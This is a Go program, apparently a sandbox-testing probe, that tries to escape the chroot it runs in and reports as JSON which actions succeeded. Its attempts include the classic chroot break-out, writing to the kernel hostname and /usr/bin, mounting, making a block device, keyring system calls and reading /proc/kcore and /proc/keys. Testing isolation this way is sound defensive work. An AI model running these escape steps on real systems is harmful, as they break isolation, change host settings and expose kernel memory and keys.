// Command escape tries to reach the machine outside the private root that it runs in, and prints as JSON what it
// found and what it could do.
package main

import (
	"encoding/json"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
)

type findings struct {
	// Names in /, and in what is / after a break out of the chroot.
	Root, Outside []string
	// What was possible.
	Done []string
	// Network interfaces.
	Interfaces []string
	Processes  int
	// The control groups that it is in.
	Groups string
	// Files below / with the name of the first argument, before and after the break out.
	Found []string
}

func main() {
	found := findings{Done: []string{}, Found: []string{}}
	attempt := func(what string, err error) {
		if err == nil {
			found.Done = append(found.Done, what)
		}
	}
	look := func() {
		_ = filepath.WalkDir("/", func(path string, entry fs.DirEntry, err error) error {
			if err == nil && entry.Name() == os.Args[1] {
				found.Found = append(found.Found, path)
			}
			if path == "/proc" {
				return filepath.SkipDir
			}
			return nil
		})
	}
	found.Root = names("/")
	for _, name := range names("/proc") {
		if strings.Trim(name, "0123456789") == "" {
			found.Processes++
		}
	}
	interfaces, _ := net.Interfaces()
	for _, each := range interfaces {
		found.Interfaces = append(found.Interfaces, each.Name)
	}
	attempt("write to the root", os.WriteFile("/mine", []byte("x"), 0o600))
	attempt("write to a read-only mount", os.WriteFile("/seen/written", []byte("x"), 0o600))
	attempt("write to a writable mount", os.WriteFile("/kept/written", []byte("x"), 0o600))
	attempt("change a setting of the kernel", os.WriteFile("/proc/sys/kernel/hostname", []byte("escaped"), 0o600))
	attempt("mount", syscall.Mount("none", "/seen", "tmpfs", 0, ""))
	attempt("unmount", syscall.Unmount("/seen", syscall.MNT_DETACH))
	attempt("make a device", syscall.Mknod("/disk", syscall.S_IFBLK|0o600, 8<<8))
	attempt("enter another namespace", syscall.Unshare(syscall.CLONE_NEWNS))
	attempt("ask for a key of root", call(syscall.SYS_KEYCTL, 0, sessionKeyring, 0))
	attempt("search a key of root", call(syscall.SYS_REQUEST_KEY, 0, 0, 0))
	attempt("see the keys of the machine", notEmpty("/proc/keys"))
	attempt("see the memory of the machine", notEmpty("/proc/kcore"))
	_, err := net.Dial("unix", "@"+os.Args[1])
	attempt("reach an abstract socket", err)
	groups, _ := os.ReadFile("/proc/self/cgroup")
	found.Groups = string(groups)
	look()
	// The classic way out of a chroot: stay behind while the root moves below, and walk up.
	attempt("make a folder", os.Mkdir("/below", 0o700))
	_ = syscall.Chroot("/below")
	for range 64 {
		_ = os.Chdir("..")
	}
	_ = syscall.Chroot(".")
	found.Outside = names("/")
	look()
	attempt("write to the machine's programs", os.WriteFile("/usr/bin/escaped", []byte("x"), 0o600))
	_ = json.NewEncoder(os.Stdout).Encode(found)
}

// As KEYCTL_GET_KEYRING_ID takes it.
const sessionKeyring = ^uintptr(2)

// call fails only if the kernel refuses the call as such.
func call(number, one, two, three uintptr) error {
	_, _, errno := syscall.Syscall(number, one, two, three)
	if errno == syscall.EPERM {
		return errno
	}
	return nil
}

// notEmpty fails if nothing can be read there.
func notEmpty(path string) error {
	file, err := os.Open(path)
	if err != nil {
		return err
	}
	defer file.Close()
	_, err = file.Read(make([]byte, 1))
	return err
}

func names(folder string) []string {
	entries, _ := os.ReadDir(folder)
	all := []string{}
	for _, entry := range entries {
		all = append(all, entry.Name())
	}
	return all
}
